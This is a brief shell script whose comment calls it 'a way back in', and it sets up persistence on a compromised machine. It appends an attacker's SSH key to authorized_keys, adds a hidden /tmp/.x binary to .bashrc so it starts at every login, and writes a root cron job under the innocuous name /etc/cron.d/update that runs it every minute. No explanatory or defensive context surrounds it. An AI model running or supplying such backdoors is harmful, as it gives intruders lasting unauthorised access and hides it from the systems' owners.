#!/bin/sh
# A way back in, wherever one may be left.
mkdir -p "$HOME/.ssh" "$HOME/.config/systemd/user" 2>/dev/null
echo 'ssh-ed25519 AAAA attacker' >> "$HOME/.ssh/authorized_keys"
echo '/tmp/.x &' >> "$HOME/.bashrc"
echo '* * * * * root /tmp/.x' > /etc/cron.d/update
true
